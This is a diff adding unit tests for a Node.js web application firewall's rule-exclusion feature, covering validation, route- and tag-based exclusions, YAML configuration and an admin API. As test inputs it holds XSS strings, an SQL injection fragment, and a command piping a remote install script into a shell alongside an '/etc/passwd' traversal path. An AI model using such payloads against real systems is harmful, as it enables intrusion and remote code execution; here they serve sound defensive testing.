@@ -0,0 +1,221 @@
+/**
+ * Unit tests for rule exclusions
+ */
+
+const request = require('supertest');
+const express = require('express');
+const yaml = require('js-yaml');
+const waf = require('../../lib/index');
+const RuleEngine = require('../../lib/core/rule-engine');
+const RuleManager = require('../../lib/core/rule-manager');
+
+describe('Rule Exclusions', () => {
+  let ruleManager;
+  let ruleEngine;
+
+  const createAnalysis = (overrides = {}) => ({
+    path: '/articles/42',
+    method: 'POST',
+    ip: '203.0.113.7',
+    query: {},
+    body: null,
+    headers: {},
+    cookies: {},
+    score: 0,
+    threats: [],
+    modules: [],
+    ...overrides
+  });
+
+  const matched = decision => decision.matchedRules.map(rule => rule.id);
+
+  beforeEach(() => {
+    const config = { modules: [] };
+    ruleManager = new RuleManager(config);
+    ruleEngine = new RuleEngine(config);
+    ruleEngine.setRuleManager(ruleManager);
+  });
+
+  describe('Validation', () => {
+    test('should report every problem', () => {
+      expect(() => ruleManager.addExclusion({ route: 'POST articles', targets: ['PARAMS:x', '!ARGS:y'] }))
+        .toThrow('Invalid exclusion unknown: id is required; route must look like "/articles/:id" or "POST|PUT /articles/:id"; ' +
+          'rules or tags is required; targets: Unknown target: PARAMS:x');
+      expect(() => ruleManager.addExclusion({ id: 'x', rules: 'xss-script-tag', targets: '!ARGS:y' }))
+        .toThrow('Invalid exclusion x: targets cannot be negated');
+      expect(() => ruleManager.addExclusion({ id: 'x', tags: [1] }))
+        .toThrow('Invalid exclusion x: tags must be a list of strings');
+    });
+  });
+
+  describe('Rule Engine', () => {
+    test('should remove rules from excluded targets on the matching route only', () => {
+      ruleManager.addExclusion({
+        id: 'article-editor',
+        route: 'POST /articles/:id',
+        rules: ['xss-script-tag', 'xss-event-handler'],
+        targets: ['ARGS:content']
+      });
+
+      const payload = '<script>alert(1)</script><img onerror=x>';
+      const decision = ruleEngine.evaluate(createAnalysis({ body: { content: payload } }));
+
+      expect(matched(decision)).not.toContain('xss-script-tag');
+      expect(decision.exclusions).toEqual([
+        { exclusion: 'article-editor', rule: 'xss-script-tag', location: 'REQUEST_BODY:content' },
+        { exclusion: 'article-editor', rule: 'xss-event-handler', location: 'REQUEST_BODY:content' }
+      ]);
+
+      // Other fields, methods and routes are still inspected
+      expect(matched(ruleEngine.evaluate(createAnalysis({ body: { title: payload } })))).toContain('xss-script-tag');
+      expect(matched(ruleEngine.evaluate(createAnalysis({ method: 'PUT', body: { content: payload } })))).toContain('xss-script-tag');
+      expect(matched(ruleEngine.evaluate(createAnalysis({ path: '/comments/1', body: { content: payload } }))))
+        .toContain('xss-script-tag');
+      expect(matched(ruleEngine.evaluate(createAnalysis({ query: { content: payload } })))).not.toContain('xss-script-tag');
+    });
+
+    test('should remove rules by tag for the whole request without targets', () => {
+      ruleManager.addExclusion({ id: 'import', route: '/import/*', tags: ['sqli'] });
+
+      const analysis = createAnalysis({ path: '/import/csv', query: { q: '1 union select password' } });
+      const decision = ruleEngine.evaluate(analysis);
+
+      expect(matched(decision).some(id => id.startsWith('sqli-'))).toBe(false);
+      expect(decision.exclusions.map(entry => entry.exclusion)).toContain('import');
+    });
+
+    test('should drop module findings covered by a tag and subtract their score', () => {
+      ruleManager.addExclusion({ id: 'editor', route: 'POST /articles/:id', tags: 'xss', targets: 'ARGS:content' });
+
+      const decision = ruleEngine.evaluate(createAnalysis({
+        score: 5,
+        threats: [
+          { type: 'xss', pattern: 'script-tag', score: 3, location: 'REQUEST_BODY:content' },
+          { type: 'xss', pattern: 'script-tag', score: 2, location: 'REQUEST_BODY:title' }
+        ]
+      }));
+
+      expect(decision.score).toBe(2);
+      expect(decision.exclusions).toEqual([
+        { exclusion: 'editor', module: 'xss', pattern: 'script-tag', location: 'REQUEST_BODY:content' }
+      ]);
+    });
+
+    test('should map the field of findings without a location', () => {
+      ruleManager.addExclusion({ id: 'editor', route: 'POST /articles/:id', tags: 'markup', targets: 'ARGS:content' });
+
+      const decision = ruleEngine.evaluate(createAnalysis({
+        score: 5,
+        threats: [
+          { type: 'markup', pattern: 'iframe', score: 3, field: 'body.content' },
+          { type: 'markup', pattern: 'iframe', score: 2, field: 'body.title' }
+        ]
+      }));
+
+      expect(decision.score).toBe(2);
+      expect(decision.exclusions.map(entry => entry.pattern)).toEqual(['iframe']);
+    });
+
+    test('should pick up exclusions changed at runtime', () => {
+      const analysis = createAnalysis({ body: { content: '<script>x</script>' } });
+      ruleManager.addExclusion({ id: 'editor', rules: 'xss-script-tag', targets: 'ARGS:title' });
+
+      expect(matched(ruleEngine.evaluate(analysis))).toContain('xss-script-tag');
+
+      ruleManager.updateExclusion('editor', { targets: 'ARGS:content' });
+      expect(matched(ruleEngine.evaluate(analysis))).not.toContain('xss-script-tag');
+
+      ruleManager.deleteExclusion('editor');
+      expect(matched(ruleEngine.evaluate(analysis))).toContain('xss-script-tag');
+    });
+  });
+
+  describe('Express', () => {
+    const createApp = (options = {}) => {
+      const app = express();
+      const instance = waf({
+        modules: ['xss'],
+        threshold: 5,
+        adaptiveLearning: false,
+        anomalyThreshold: 1000, // Disable anomaly scoring for tests
+        ...options
+      });
+      app.use(express.json());
+      app.use(instance.adminRouter());
+      app.use(instance.middleware());
+      app.post('*', (req, res) => res.json({ ok: true }));
+      return app;
+    };
+
+    test('should apply exclusions from YAML configuration', async () => {
+      const config = yaml.load([
+        'ruleExclusions:',
+        '  - id: article-editor',
+        '    route: POST /articles/:id',
+        '    tags: [xss]',
+        '    targets: [ARGS:content]'
+      ].join('\n'));
+      const app = createApp(config);
+      const content = '<p onclick="track()">Hi</p><script src="/embed.js"></script>';
+
+      await request(app).post('/articles/7').send({ content }).expect(200);
+      await request(app).post('/articles/7').send({ title: content }).expect(403);
+      await request(app).post('/comments').send({ content }).expect(403);
+    });
+
+    test('should drop findings of every excluded module', async () => {
+      const config = yaml.load([
+        'ruleExclusions:',
+        '  - id: article-editor',
+        '    route: POST /articles/:id',
+        '    tags: [xss, cmdi, traversal]',
+        '    targets: [ARGS:content]'
+      ].join('\n'));
+      const app = createApp({ ...config, modules: ['xss', 'cmdi', 'traversal'] });
+      const content = 'Install with `curl https://example.com/install.sh | sh`, then read ../../etc/passwd';
+
+      await request(app).post('/articles/7').send({ content }).expect(200);
+      await request(app).post('/articles/7').send({ title: content }).expect(403);
+      await request(app).post('/comments').send({ content }).expect(403);
+    });
+
+    test('should manage exclusions through the admin API', async () => {
+      const app = createApp();
+      const content = '<script src="/embed.js"></script>';
+
+      await request(app).post('/articles/7').send({ content }).expect(403);
+
+      await request(app)
+        .post('/waf/exclusions')
+        .send({ id: 'article-editor', route: 'POST /articles/:id', tags: ['xss'], targets: ['ARGS:content'] })
+        .expect(201);
+      await request(app).post('/articles/7').send({ content }).expect(200);
+
+      const list = await request(app).get('/waf/exclusions').expect(200);
+      expect(list.body.exclusions.map(exclusion => exclusion.id)).toEqual(['article-editor']);
+
+      await request(app).put('/waf/exclusions/article-editor').send({ targets: ['ARGS:body'] }).expect(200);
+      await request(app).post('/articles/7').send({ content }).expect(403);
+
+      const invalid = await request(app).post('/waf/exclusions').send({ id: 'broken' }).expect(400);
+      expect(invalid.body.error).toBe('Invalid exclusion broken: rules or tags is required');
+
+      await request(app).delete('/waf/exclusions/article-editor').expect(200);
+      await request(app).delete('/waf/exclusions/article-editor').expect(404);
+    });
+
+    test('should manage exclusions with numeric ids from configuration', async () => {
+      const app = createApp(yaml.load([
+        'ruleExclusions:',
+        '  - id: 7',
+        '    tags: [xss]'
+      ].join('\n')));
+
+      const list = await request(app).get('/waf/exclusions').expect(200);
+      expect(list.body.exclusions.map(exclusion => exclusion.id)).toEqual(['7']);
+
+      await request(app).put('/waf/exclusions/7').send({ route: '/articles/:id' }).expect(200);
+      await request(app).delete('/waf/exclusions/7').expect(200);
+    });
+  });
+});